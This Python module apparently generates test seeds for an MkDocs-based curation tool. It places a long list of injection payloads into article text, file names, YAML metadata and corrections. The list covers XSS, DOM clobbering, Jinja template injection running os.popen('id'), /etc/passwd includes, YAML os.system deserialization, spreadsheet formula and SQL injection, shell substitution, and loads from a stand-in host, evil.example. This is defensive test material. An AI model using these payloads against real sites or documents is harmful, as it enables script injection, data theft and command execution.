"""Shapes of published injections: scripts in HTML, in attributes, in addresses; Markdown, its extensions, templates.

Each sets ``window.hit``, opens a dialog, asks another host or changes the page, if any layer takes it for markup. The
shapes are those of OWASP's "XSS Filter Evasion Cheat Sheet", of what is known of parsing twice (mutation), of names
that shadow a page's own (DOM clobbering), of formulas in tables, and of the documentation of CommonMark,
Python-Markdown, its extensions and Jinja; all written anew.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import yaml

PAYLOADS = (
    "<script>window.hit=21</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>window.hit=22</scr</script>ipt>",
    '"><script>window.hit=23</script>',
    "'-alert(24)-'",
    "</title><script>window.hit=25</script>",
    "</script><script>window.hit=26</script>",
    "</textarea></style><img src=x onerror=window.hit=27>",
    '" autofocus onfocus="window.hit=28" x="',
    "' onmouseover='window.hit=29",
    "<img src=x onerror=alert(30)>",
    "<img src=`x` onerror=window.hit=31//",
    "<svg/onload=window.hit=32>",
    "<svg><script>window.hit=33</script></svg>",
    "<svg><animate onbegin=window.hit=34 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=35>",
    "<body onload=window.hit=36>",
    "<iframe srcdoc='<script>parent.hit=37</script>'></iframe>",
    "<object data=data:text/html,<script>window.hit=38</script>></object>",
    "<embed src=javascript:window.hit=39>",
    "<details open ontoggle=window.hit=40>",
    "<video><source onerror=window.hit=41>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; article{display:none}</style>",
    "<form action=//evil.example/><input type=submit>",
    "<a href=javascript:window.hit=42>here</a>",
    "<a href='java&#9;script:window.hit=43'>here</a>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=44>'>",
    "<template><img src=x onerror=window.hit=45></template>",
    "<!--><img src=x onerror=window.hit=46>-->",
    "<![CDATA[><img src=x onerror=window.hit=47>]]>",
    "\u003cscript\u003ewindow.hit=48\u003c/script\u003e",
    "&lt;script&gt;window.hit=49&lt;/script&gt;",
    "&#60;script&#62;window.hit=50&#60;/script&#62;",
    "＜script＞window.hit=51＜/script＞",
    "[here](javascript:window.hit=52)",
    "[here](data:text/html,<script>window.hit=53</script>)",
    "![x](//evil.example/pixel.png)",
    '![x](x"onerror="window.hit=54)',
    "[here][r] and [r]: javascript:window.hit=55",
    "<javascript:window.hit=56>",
    "<https://evil.example/?\"onmouseover='window.hit=57'>",
    "text{: onclick=window.hit=58 }",
    "text{ style=display:none .md-hidden #text }",
    "{{ ''.__class__.__mro__ }}{% import os %}",
    "{%- for x in config -%}{{ x }}{%- endfor -%}",
    "${{ 7*7 }} #{7*7} <%= 7*7 %>",
    '--8<-- "mkdocs.yml"',
    ";--8<-- mkdocs.yml",
    "::: sourcebook.cli",
    '=== "Tab" \n    <script>window.hit=59</script>',
    "??? note onclick=window.hit=60",
    "*[HTML]: <script>window.hit=61</script>",
    "[^x]: <img src=x onerror=window.hit=62>",
    "$$\\href{javascript:window.hit=63}{x}$$",
    "```{.python onclick=window.hit=64}",
    "\u2028<script>window.hit=65</script>\u2029",
    "\ufeff\u202e<script>window.hit=66</script>\u202c",
    "%3Cscript%3Ewindow.hit=67%3C/script%3E",
    "# --- \ntemplate: x.html\n---",
    "- !!python/object/apply:os.system [echo hit]",
    '=HYPERLINK("//evil.example")',
    # Handlers that need nobody's help.
    "<audio src onloadstart=window.hit=70>",
    "<input autofocus onfocus=window.hit=71>",
    "<select autofocus onfocus=window.hit=72><option>a",
    "<marquee onstart=window.hit=73>a</marquee>",
    "<style onload=window.hit=74></style>",
    "<xss id=x tabindex=1 onfocus=window.hit=75 autofocus>a</xss>",
    "<p style=animation-name:md-fade;animation-duration:1s onanimationstart=window.hit=76>a",
    "<body onpageshow=window.hit=77 onhashchange=window.hit=77>",
    "<button popovertarget=p autofocus>a</button><div popover id=p onbeforetoggle=window.hit=78>",
    "<input type=hidden style=content-visibility:auto oncontentvisibilityautostatechange=window.hit=79>",
    "<link rel=stylesheet href=x onerror=window.hit=80>",
    "<video poster=x><track kind=captions src=x default onerror=window.hit=81></video>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>window.hit=82</script></svg>#x'/>",
    "<svg><a><set attributeName=href to=javascript:window.hit=83 /><text y=20>here",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit=84</script>'></foreignObject></svg>",
    # Addresses that run.
    "<a href='&#106;&#x61;vascript&colon;window.hit=85'>here</a>",
    "<a href=' \x01javascript:window.hit=86'>here</a>",
    "<a href='javascript://a.example/%0awindow.hit=87'>here</a>",
    "<form><button formaction=javascript:window.hit=88 autofocus>here",
    "<iframe src=javascript:parent.hit=89></iframe>",
    "<math href=javascript:window.hit=90>here</math>",
    "<a href=vbscript:msgbox(91)>here</a>",
    # Tags as no standard has them, and elements that swallow what follows.
    "<img src=x onerror=window.hit=92 <p",
    "<<script>window.hit=93//<</script>",
    "<script\x0b>window.hit=94</script\x0c>",
    "<img/\x00src=x/onerror=window.hit=95>",
    "<scr\u200bipt>window.hit=96</scr\u200bipt>",
    "<plaintext>",
    "<xmp><p title='</xmp><img src=x onerror=window.hit=97>'>",
    "<noembed><img title='</noembed><img src=x onerror=window.hit=98>'>",
    "</p></div></section></article></main></body></html><script>window.hit=99</script>",
    "<!--[if gte IE 4]><script>window.hit=100</script><![endif]-->",
    "<?xml-stylesheet href='javascript:window.hit=101'?>",
    # Markup that changes when it is parsed a second time.
    "<svg></p><style><a id='</style><img src=x onerror=window.hit=102>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.hit=103>",
    "<math><annotation-xml encoding=text/html><style><img title='</style><img src=x onerror=window.hit=104>'>",
    # Names that scripts look up.
    "<a id=__md_scope href=//evil.example/></a><a id=__search></a><form name=body><input name=getElementById>",
    "<div data-md-component=search data-md-toggle=search class=md-search__form>",
    # Other writings of the same characters.
    "+ADw-script+AD4-window.hit=105+ADw-/script+AD4-",
    "\\x3cscript\\x3ewindow.hit=106\\x3c/script\\x3e %u003Cscript%u003E",
    "&LT;script&GT;window.hit=107&LT;/script&GT; &lt&semi;",
    "&amp;lt;script&amp;gt;window.hit=108&amp;lt;/script&amp;gt;",
    # Ways out of what stands in a script or a style.
    "<!--<script>",
    '"};window.hit=109;//',
    "*/}</style><script>window.hit=110</script><style>/*",
    '{"@context":"</script><script>window.hit=111</script>"}',
    "<div style=\"position:fixed;inset:0;background:url('//evil.example/x.png')\">",
    # Markdown and its extensions.
    "[here](<javascript:window.hit=112>)",
    "[here](JaVaScRiPt&#58;window.hit=113 'title')",
    '[x]: javascript:window.hit=114 "title"',
    "[//]: # (window.hit=115)",
    "**bold**{: onmouseover=window.hit=116 style=position:fixed }",
    "# heading {#__search .md-hidden onclick=window.hit=117}",
    '!!! danger "<img src=x onerror=window.hit=118>"',
    '```mermaid\ngraph TD; A-->B; click A href "javascript:window.hit=119"\n```',
    "| <img src=x onerror=window.hit=120> | b |\n|---|---|\n| c | d |",
    "[[x|javascript:window.hit=121]] {!mkdocs.yml!} {>>window.hit<<} ++ctrl+c++",
    '--8<--\n/etc/passwd\n--8<-- {% include "/etc/passwd" %} {% raw %}',
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "[TOC] \\[toc\\] <!-- more --> \\(x\\) $`x`$",
    # What other programs than browsers take for more than text.
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '-2+3+HYPERLINK("//evil.example")',
    "'; DROP TABLE articles; --",
    "$(touch hit) `touch hit` ; touch hit | touch hit",
    "..\\..\\..\\hit ....//....//hit %2e%2e%2fhit",
    "@article{x, title = {a}} \\input{/etc/passwd} \\href{javascript:window.hit=122}{here}",
    "TY  - JOUR\nER  - \nUR  - javascript:window.hit=123",
    "<?php window.hit ?><% window.hit %><cfoutput>#1#</cfoutput>",
    "\u202e<tpircs/>\u2066 \u2067<b>\u2069 \u061c",
    "a\u0300\u0301\u0302\u0303" * 20,
)
# The keeper of this number is named in the carrier article and gets a payload for a name.
_STORY = "The keepers of the bridge\n\n{lines}\n\nThe recording could not be verified, Holm said.\n"
_LINE = "Keeper{n} told the council on Tuesday that tape{n} was shown to {n} visitors{n} at the bridge."
_NAME_BYTES = 180


def write(seeds: Path) -> None:
    """Write articles whose text, names, sidecars and corrections are payloads into a folder of seeds."""
    (seeds / "payloads.txt").write_text("What was sent to us\n\n" + "\n\n".join(PAYLOADS) + "\n", encoding="utf-8")
    count = range(len(PAYLOADS))
    lines = "\n\n".join(_LINE.format(n=100 + n) for n in count)
    (seeds / "keepers.txt").write_text(_STORY.replace("{lines}", lines), encoding="utf-8")
    for n in range(0, len(PAYLOADS), 5):
        _named(seeds, n)
    entries = [entry for n in count for entry in _entries(n)]
    (seeds / "curation.yml").write_text(yaml.safe_dump({"corrections": entries}, allow_unicode=True), encoding="utf-8")


def _payload(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)]


def _named(seeds: Path, n: int) -> None:
    """Write an article with payloads in its file's name and in all that stands beside it."""
    plain = _payload(n).replace("/", "∕").replace("\n", " ").replace("\0", "")
    name = plain.encode()[:_NAME_BYTES].decode("utf-8", "ignore")
    text = f"{_payload(n + 1)}\n\nThe bridge was safe, Mayor Anna Holm said on Tuesday. About {n + 2} people saw it.\n"
    (seeds / f"n{n} {name}.txt").write_text(text, encoding="utf-8")
    beside: dict[str, Any] = {
        "title": _payload(n + 2),
        "outlet": _payload(n + 3),
        "authors": [_payload(n + 4), _payload(n + 1)],
        "published": "2016-11-03",
    }
    (seeds / f"n{n} {name}.yml").write_text(yaml.safe_dump(beside, allow_unicode=True), encoding="utf-8")


def _entries(n: int) -> list[dict[str, Any]]:
    """Return corrections that give a payload to one finding, its evidence in the sentence of this number."""
    text, who = _payload(n), 100 + n
    sets: dict[str, tuple[str, dict[str, Any]]] = {
        "name": (f"Keeper{who}", {"entity": text, "type": ("person", "organisation", "place")[n % 3]}),
        "source": (f"Keeper{who}", {"name": text, "kind": "named-person", "cited_for": text}),
        "number": (f"{who} visitors{who}", {"value": who, "counted": text, "unit": text}),
        "authenticity": (
            f"tape{who} was shown",
            {"stance": "unknown", "object": text, "holder": text, "method": text},
        ),
    }
    what = tuple(sets)[n % len(sets)]
    at, values = sets[what]
    made = {"article": "keepers", "at": at, "by": text, "date": "2026-11-21", "reason": text}
    return [
        {"do": "add", "what": what, "set": values, **made},
        {"do": "note", "what": what, "note": text, **made},
    ]
